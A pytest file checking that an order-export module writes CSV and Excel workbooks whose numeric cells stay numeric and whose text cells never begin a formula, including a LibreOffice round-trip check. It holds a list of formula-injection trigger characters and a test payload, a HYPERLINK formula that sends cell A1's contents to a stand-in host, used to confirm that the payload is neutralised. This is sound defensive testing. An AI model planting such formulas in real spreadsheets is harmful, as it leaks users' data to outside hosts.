"""Workbooks: numbers are numbers, texts are never formulas, and LibreOffice reads them so."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from photocheck.orders.draft import Draft
from photocheck.orders.export import COLUMNS, NUMBERS, orders_csv, row_of
from photocheck.orders.model import CutNote, Order
from photocheck.shown.outgoing import table_workbook
from photocheck.shown.workbook import LONGEST_CELL, NumberCell, workbook
from tests.support import spreadsheet
from tests.support.cut_orders import DAY, accepted
from tests.support.spreadsheet import office, read_by_office

# as in OWASP's "CSV Injection", and NUL (ASVS 5.0, 1.2.10)
TRIGGERS = tuple("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20")


def filled_in() -> Order:
    told = Draft.from_dict(
        {
            "unit": "in",
            "name": "Order of Rex",
            "owner": {"name": "Ada Invented", "reach": "ada@invented.example", "number": "0042"},
            "readings": {
                "half_neck": "14 1/2",
                "rear_length": ["18", "18 1/4 in", ""],
                "full_length": "about a yard",
            },
            "dog": {
                "name": "Rex",
                "breed": "mix",
                "weight": "62 lb",
                "coat": "fluffy",
                "girth": 27,
            },
            "photos": [{"file": "photo-1.jpg"}],
        }
    )
    return Order("keyfilled", DAY, "en", told)


def test_an_order_being_filled_in_is_told_as_far_as_it_goes() -> None:
    row = row_of(filled_in())
    told = {
        "state": "being_filled_in",
        "checks": "0",
        "name": "Order of Rex",
        "dog": "Rex",
        "breed": "mix",
        "unit": "in",
        "number": "0042",
        "owner": "Ada Invented",
        "reach": "ada@invented.example",
        "weight": "62 lb",
        "coat": "fluffy",
        "girth": "27",
        "photos": "1",
        "half_neck_typed": "14 1/2",
        "half_neck_mm": "368.3",  # 14.5 in of 25.4 mm
        "rear_length_typed": "18 / 18 1/4 in",
        "rear_length_mm": "460.4",  # the mean of 457.2 and 463.55
        "full_length_typed": "about a yard",
        "full_length_mm": "",
        "front_length_typed": "",
        "verdict": "",
        "cut": "",
    }
    assert {name: row[name] for name in told} == told
    assert list(row) == list(COLUMNS)


def test_what_was_cut_stands_in_the_table() -> None:
    row = row_of(accepted(17, cuts=(CutNote(DAY, "Cleo", "cut", 17),)))
    assert (row["cut"], row["cut_at"], row["cut_by"]) == ("yes", "2026-03-29T07:05:00Z", "Cleo")
    assert row["number"] == "2026-17"


def test_the_workbook_says_what_the_table_says() -> None:
    orders = [filled_in(), accepted(17)]
    table = list(csv.DictReader(io.StringIO(orders_csv(orders), newline="")))
    sheet = load_workbook(io.BytesIO(table_workbook(orders))).active
    heads = [cell.value for cell in sheet[1]]
    assert heads == list(COLUMNS)
    assert sheet.freeze_panes == "A2"
    for line, cells in zip(table, sheet.iter_rows(min_row=2), strict=True):
        for name, cell in zip(heads, cells, strict=True):
            if not line[name]:
                assert cell.value is None
            elif name in NUMBERS:
                assert cell.data_type == "n"
                assert cell.value == float(line[name])
            else:
                assert cell.data_type == "s"
                assert cell.value == line[name]
    widths = [sheet.column_dimensions[cell.column_letter].width for cell in sheet[1]]
    assert all(8 <= width <= 60 for width in widths)


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_no_cell_of_a_workbook_begins_a_formula(trigger: str) -> None:
    text = f'{trigger}HYPERLINK("http://x.example/?"&A1,"ok")'
    sheet = load_workbook(io.BytesIO(workbook(text, [text], [[text]]))).active
    for cell in (sheet["A1"], sheet["A2"]):
        assert cell.data_type == "s"
        assert not cell.value.startswith(TRIGGERS)


@pytest.mark.slow
@given(st.lists(st.text(max_size=20), min_size=1, max_size=3))
def test_whatever_was_typed_is_kept(texts: list[str]) -> None:
    rows = [[text, 1, 2.5, date(2026, 3, 29), None, NumberCell(1.25, "0.0")] for text in texts]
    sheet = load_workbook(io.BytesIO(workbook("t", list("abcdef"), rows))).active
    for text, cells in zip(texts, sheet.iter_rows(min_row=2, values_only=True), strict=True):
        kept = (cells[0] or "").replace("\ufffd", "").replace("_x000D_", "")
        assert cells[1:3] == (1, 2.5)
        assert cells[5] == 1.25
        letters = [c for c in text if c.isalnum()]
        assert [c for c in kept if c.isalnum()] == letters


def test_a_cell_holds_no_more_than_a_cell_may() -> None:
    sheet = load_workbook(io.BytesIO(workbook("t", ["a"], [["x" * 40_000]]))).active
    assert len(sheet["A2"].value) == LONGEST_CELL


@pytest.mark.slow
def test_office_reads_the_table_as_it_was_written(tmp_path: Path) -> None:
    nasty = replace(filled_in(), draft=filled_in().draft.but("name", "=1+1;=2+2"))
    orders = [filled_in(), nasty, accepted(17)]
    file, book = tmp_path / "orders.csv", tmp_path / "orders.xlsx"
    file.write_bytes(orders_csv(orders).encode("utf-8-sig"))
    book.write_bytes(table_workbook(orders))
    by_table, by_book = read_by_office(file), read_by_office(book)
    assert by_table[0] == by_book[0] == list(COLUMNS)
    for order, one, other in zip(orders, by_table[1:], by_book[1:], strict=True):
        row = row_of(order)
        for name, a, b in zip(COLUMNS, one, other, strict=True):
            if name in NUMBERS and row[name]:
                assert float(a) == float(b) == float(row[name])
            elif name.endswith(("_typed", "number", "weight", "age_months")):
                assert b == row[name], name  # a workbook tells texts from numbers
            elif name == "name":
                assert a == b
                assert not a.startswith("=")
            else:
                assert b == row[name], name


def test_without_office_the_tests_fail_where_it_matters(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheet.shutil, "which", lambda _: None)
    monkeypatch.setenv("CI", "true")
    with pytest.raises(pytest.fail.Exception, match="apt-get install libreoffice"):
        office()
    monkeypatch.delenv("CI")
    with pytest.raises(pytest.skip.Exception):
        office()
